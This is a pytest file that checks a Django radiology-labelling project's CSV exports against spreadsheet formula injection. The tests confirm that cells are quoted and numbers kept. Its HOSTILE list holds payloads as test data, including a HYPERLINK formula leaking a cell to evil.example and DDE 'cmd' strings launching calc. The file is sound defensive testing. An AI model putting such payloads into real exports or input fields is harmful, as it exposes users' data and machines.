"""CSV formula injection (issue 14, item 4): every CSV the site and its commands write goes through
``common.csvfile``, which quotes a text cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return (OWASP), and leaves numbers as numbers.

End to end: the access log (a hostile query string and user agent, on an answered and on a refused
request, through ``audit_export``), the labels export, a reader study's export, the reader report's
CSVs and the model evaluation's. A source scan keeps every other module off ``csv.writer``.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command

from annotate.audit import AccessLog
from annotate.labelling import exchange
from annotate.labelling.formats import Hip, Image, tabular
from common import csvfile
from ml.core.report import _write_tables, evaluation_report
from readerstudy import services as study_services
from readerstudy.analysis import readers
from readerstudy.models import Reader
from tests.readerstudy.helpers import invite

ROOT = Path(__file__).resolve().parents[1]

# One payload per first character OWASP lists.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the report")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _no_formula(rows: list[list[str]]) -> None:
    """No cell a spreadsheet would run: each begins with a harmless character or is a plain number."""
    for row in rows:
        for cell in row:
            assert not cell.startswith(csvfile.FORMULA_STARTS) or csvfile.PLAIN_NUMBER.fullmatch(cell), (cell, row)


# --------------------------------------------------------------------------- the writer


@pytest.mark.parametrize("payload", HOSTILE)
def test_the_writer_quotes_every_formula_start(payload: str) -> None:
    buffer = io.StringIO()
    csvfile.writer(buffer, lineterminator="\n").writerow(["ok", payload, 1])
    [row] = _rows(buffer.getvalue())  # one row: a cell with \r or \n is quoted whatever the terminator
    assert row == ["ok", "'" + payload, "1"]
    assert csvfile.unquote(row[1]) == payload


def test_numbers_stay_numbers() -> None:
    buffer = io.StringIO()
    values = [-0.05, -3, 0.0, -1.5e-07, np.float64(-0.25), np.int64(-7), "-0.05", "+3", "-1.5e-07", "-.5"]
    csvfile.writer(buffer).writerow(values)
    [row] = _rows(buffer.getvalue())
    assert row == ["-0.05", "-3", "0.0", "-1.5e-07", "-0.25", "-7", "-0.05", "+3", "-1.5e-07", "-.5"]
    assert [float(cell) for cell in row] == [float(v) for v in values]
    # Text that is more than one number is text: "-1+1" and "-A1" are formulas, "-3.0 1.0" is not a number.
    buffer = io.StringIO()
    csvfile.writer(buffer).writerow(["-1+1", "-A1", "-3.0 1.0", "-inf", None, "a-b", "'quoted"])
    assert _rows(buffer.getvalue()) == [["'-1+1", "'-A1", "'-3.0 1.0", "'-inf", "", "a-b", "'quoted"]]


def test_dict_writer_quotes_too() -> None:
    buffer = io.StringIO()
    writer = csvfile.DictWriter(buffer, ["name", "value"], lineterminator="\n")
    writer.writeheader()
    writer.writerows([{"name": "=1+1", "value": -0.5}, {"name": "x"}])
    assert buffer.getvalue() == "name,value\n'=1+1,-0.5\nx,\n"


def test_no_module_writes_csv_without_the_one_writer() -> None:
    offenders = []
    for folder in ("accounts", "annotate", "config", "ml", "readerstudy", "scripts", "bench"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            text = path.read_text(encoding="utf-8")
            if re.search(r"\bcsv\.(writer|DictWriter)\b|\.to_csv\(", text):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


# --------------------------------------------------------------------------- the access log


@pytest.mark.django_db
def test_audit_export_neutralises_logged_queries_and_user_agents(client_as, radiograph, tmp_path):
    url = f"/radiographs/{radiograph.pk}/"
    # Answered (a researcher may see it) and refused (a labeller may not; the attempt is logged too).
    sent = [
        ("researcher", HOSTILE[0], HOSTILE[1], 200),
        ("labeler", HOSTILE[2], HOSTILE[3], 403),
        ("researcher", HOSTILE[3], HOSTILE[4], 200),
        ("labeler", HOSTILE[4], HOSTILE[5], 403),
    ]
    for role, query, agent, status in sent:
        response = client_as(role).get(url, QUERY_STRING=query, HTTP_USER_AGENT=agent)
        assert response.status_code == status
    logged = list(AccessLog.objects.order_by("id").values_list("query", "user_agent", "status_code"))
    assert logged == [(q, a, s) for _, q, a, s in sent]  # the log keeps what came

    out = tmp_path / "access.csv"
    call_command("audit_export", "--since", "2000-01-01", "--out", str(out), "--no-progress", stderr=io.StringIO())
    with out.open(encoding="utf-8", newline="") as fh:  # no newline translation: a \r in a cell stays
        text = fh.read()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [(r["query"], r["user_agent"], r["status_code"]) for r in rows] == [
        ("'" + q, "'" + a, str(s)) for _, q, a, s in sent
    ]
    assert [csvfile.unquote(r["user_agent"]) for r in rows] == [a for _, _, a, _ in sent]
    assert all(r["user_id"].isdigit() and r["object_id"] == str(radiograph.pk) for r in rows)
    _no_formula(_rows(text))


# --------------------------------------------------------------------------- labels


@pytest.mark.django_db
def test_labels_export_neutralises_a_username(labelled):
    get_user_model().objects.filter(username="lena").update(username=HOSTILE[0])
    text = exchange.annotations_export(fmt="csv", ground_truth=False).data.decode()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert {r["labeler"] for r in rows} == {"'" + HOSTILE[0], "luke"}
    _no_formula(_rows(text))


def test_labels_export_keeps_negative_numbers() -> None:
    hip = Hip("left", "normal", -5.5, -0.25, 3, 4, labeler="@SUM(A1)")
    image = Image(sop_instance_uid="1.2", patient="P-1", hips=(hip,), excluded_by={"-x": "=cmd"})
    rows = list(csv.DictReader(io.StringIO(tabular.write([image], ground_truth=False), newline="")))
    assert (rows[0]["labeler"], rows[0]["x"], rows[0]["y"], rows[0]["width"]) == ("'@SUM(A1)", "-5.5", "-0.25", "3")
    assert (rows[1]["labeler"], rows[1]["excluded"]) == ("'-x", "'=cmd")


# --------------------------------------------------------------------------- reader study export


@pytest.mark.django_db
def test_study_export_neutralises_and_keeps_probabilities(study, tmp_path):
    reader = invite(study, "ortho1")
    call_command("simulate_readers", "--study", study.name, stdout=io.StringIO())
    # A training stored before the rule (or written past it) still cannot reach a spreadsheet as a formula.
    Reader.objects.filter(pk=reader.pk).update(training=HOSTILE[1])
    files = study_services.study_export(study=study)
    responses = list(csv.DictReader(io.StringIO(files["responses.csv"].decode(), newline="")))
    assert {r["training"] for r in responses} == {"'" + HOSTILE[1]}
    predictions = list(csv.DictReader(io.StringIO(files["model_predictions.csv"].decode(), newline="")))
    by_number = {case.number: case for case in study.cases.all()}
    for row in predictions:
        stored = by_number[int(row["case"])].probabilities
        assert [float(row[c]) for c in readers.PROBABILITY_COLUMNS] == [float(p) for p in stored]
    _no_formula(_rows(files["responses.csv"].decode()) + _rows(files["model_predictions.csv"].decode()))
    # And the statistics refuse the file, naming where.
    path = tmp_path / "responses.csv"
    path.write_bytes(files["responses.csv"])
    with pytest.raises(readers.ReaderDataError) as error:
        readers.read_responses(path)
    assert (error.value.file, error.value.row, error.value.column) == (str(path), 2, "training")


# --------------------------------------------------------------------------- report CSVs


def test_reader_report_csvs_neutralise_names_and_keep_negative_differences(tmp_path: Path) -> None:
    responses, predictions = readers.synthetic_study(n_cases=40, n_patients=36, seed=5)
    result = readers.analyse(responses, predictions, iterations=50, seed=1)
    # Names are validated on the way in; the writer guards the file all the same.
    renamed = {"e0": HOSTILE[0], "r0": HOSTILE[3]}
    for row in result["observers"]:
        row["observer"] = renamed.get(row["observer"], row["observer"])
    for row in result["comparisons"]:
        row["a"], row["b"] = renamed.get(row["a"], row["a"]), renamed.get(row["b"], row["b"])
    paths = readers.write_csvs(result, tmp_path)

    observers_text = paths["observers.csv"].read_text(encoding="utf-8")
    observers = list(csv.DictReader(io.StringIO(observers_text, newline="")))
    assert {"'" + HOSTILE[0], "'" + HOSTILE[3]} <= {r["observer"] for r in observers}
    assert observers_text.splitlines()[0] == ",".join(readers.OBSERVER_COLUMNS)
    differences_text = paths["kappa_differences.csv"].read_text(encoding="utf-8")
    differences = list(csv.DictReader(io.StringIO(differences_text, newline="")))
    assert differences_text.splitlines()[0] == ",".join(readers.DIFFERENCE_COLUMNS)
    estimates = [r["estimate"] for r in differences if r["estimate"]]
    assert any(e.startswith("-") for e in estimates)  # κ differences below 0 ...
    assert [float(e) for e in estimates] == [c["estimate"] for c in result["comparisons"] if c["estimate"] is not None]
    for column in ("kappa", "kappa_ci_low", "kappa_ci_high"):
        assert all(not r[column] or float(r[column]) == float(r[column]) for r in observers)  # ... stay numbers
    _no_formula(_rows(observers_text) + _rows(differences_text))


def test_evaluation_csvs_keep_their_numbers(tmp_path: Path) -> None:
    rng = np.random.default_rng(0)
    truth = rng.integers(0, 6, 60)
    probabilities = rng.dirichlet(np.ones(6), 60)
    report = evaluation_report(truth, probabilities, np.arange(60) // 2, iterations=20, seed=0)
    for path in _write_tables(report, tmp_path):
        text = path.read_text(encoding="utf-8")
        _no_formula(_rows(text))
        for row in _rows(text)[1:]:
            assert not any(cell.startswith("'") for cell in row), (path.name, row)


def test_model_prediction_and_detector_csvs_neutralise() -> None:
    from ml.detection import _hips_csv
    from ml.evaluation import _predictions_csv

    data = {"hips": [(1, HOSTILE[0], "normal")], "probabilities": np.array([[0.5, 0.1, 0.1, 0.1, 0.1, 0.1]])}
    [_, row] = _rows(_predictions_csv(data))
    assert row[:4] == ["1", "'" + HOSTILE[0], "normal", "normal"] and float(row[5]) == pytest.approx(0.5)

    hip = SimpleNamespace(hip_class=HOSTILE[2], box=(-3.0, 4.0, 50.0, 60.0))
    found = SimpleNamespace(box=(-2.0, 5.0, 49.0, 59.0), score=0.9)
    text = _hips_csv([{"radiograph": SimpleNamespace(pk=7), "side": "left", "hip": hip, "detected": found, "iou": 0.8}])
    [_, row] = _rows(text)
    assert row == ["7", "left", "'" + HOSTILE[2], "'-3.0 4.0 50.0 60.0", "'-2.0 5.0 49.0 59.0", "0.9000", "0.8000"]
